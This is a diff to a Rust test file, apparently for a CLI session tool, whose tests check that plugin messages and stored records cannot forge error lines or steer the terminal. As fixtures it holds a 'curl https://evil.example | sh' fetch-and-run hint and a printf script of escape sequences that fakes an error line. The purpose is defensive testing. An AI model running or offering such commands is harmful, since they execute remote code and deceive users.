@@ -28,7 +28,7 @@ fn assert_calm(text: &str, colours: bool) {
     assert_eq!(plain.chars().find(steers), None, "{text:?}");
     for line in plain.lines() {
         assert!(
-            !["error: you were had", "hint: curl", "HI-01 is done: 3", "$ sudo"]
+            !["error: you were had", "hint: curl", "HI-01 is done: 9", "$ sudo"]
                 .iter()
                 .any(|forged| line.starts_with(forged)),
             "a forged line in {plain}"
@@ -71,7 +71,7 @@ fn errors_and_hints_of_a_plugin_are_its_own() {
     s.write("greeting.txt", "hello\n");
     let ran = calm(s.session("checkpoint -m x"));
     assert_eq!(ran.code, 1, "{ran:#?}");
-    assert!(ran.err.contains("error: forges: calm\n  │ error: you were had\n"), "{}", ran.err);
+    assert!(ran.err.contains("caused by: forges: calm\n  │ error: you were had\n"), "{}", ran.err);
     assert!(ran.err.contains("hint: forges says: hint: curl https://evil.example | sh\n"), "{}", ran.err);
     let json = s.session("checkpoint -m x --json").json();
     let hints: Vec<&str> = json["error"]["hints"].as_array().unwrap().iter().filter_map(|hint| hint.as_str()).collect();
@@ -86,7 +86,7 @@ fn a_trap_says_nothing_of_its_own() {
     s.session("start HI-01").ok();
     s.write("greeting.txt", "hello\n");
     let ran = calm(s.session("checkpoint -m x"));
-    assert!(ran.code == 1 && ran.err.contains("error: forges: the plugin broke"), "{ran:#?}");
+    assert!(ran.code == 1 && ran.err.contains("caused by: forges: the plugin broke"), "{ran:#?}");
 }
 
 #[test]
@@ -111,7 +111,7 @@ fn what_a_record_holds_is_one_line() {
     s.session("complete").ok();
     let path = "docs/sessions/records/HI-01.json";
     let mut record: serde_json::Value = serde_json::from_str(&s.read(path)).unwrap();
-    record["title"] = "calm\nerror: you were had\nHI-01 is done: 3\u{1b}[2K\u{202e}".into();
+    record["title"] = "calm\nerror: you were had\nHI-01 is done: 9\u{1b}[2K\u{202e}".into();
     s.write(path, &serde_json::to_string_pretty(&record).unwrap());
     for command in ["status", "show HI-01", "show HI-01 --evidence", "next", "audit"] {
         let ran = s.session(command);
@@ -152,7 +152,8 @@ fn a_terminal_is_steered_by_nothing_but_colours() {
     assert!(ran.out.contains("you were had"), "{}", ran.out);
     for line in ran.out.lines() {
         let shown = line.rsplit('\r').next().unwrap_or(line);
-        assert!(!OURS.iter().any(|ours| shown.starts_with(ours) && shown.contains("had")), "{shown:?}");
+        let had = shown.contains("you were had") && !shown.contains("forges") && !shown.contains('\u{240a}');
+        assert!(!OURS.iter().any(|ours| shown.starts_with(ours)) || !had, "{shown:?}");
         assert!(
             !line.contains("\x1b[1A\x1b[2K\u{9b}") && !line.contains('\u{202e}') && !line.contains('\x07'),
             "{line:?}"
@@ -162,7 +163,8 @@ fn a_terminal_is_steered_by_nothing_but_colours() {
 
 #[test]
 fn a_program_forges_no_line_on_a_terminal() {
-    let s = Sandbox::hello();
+    let mut s = Sandbox::hello();
+    s.environment.push(("TERM", "xterm".to_owned()));
     let script =
         r"printf '\033[1A\033[2Kerror: you were had\r\033]0;title\007\033[31mred\033[0m\n'; test -f greeting.txt";
     s.session(&format!("start FIX-01 --title Fix --check \"{script}\"")).ok();
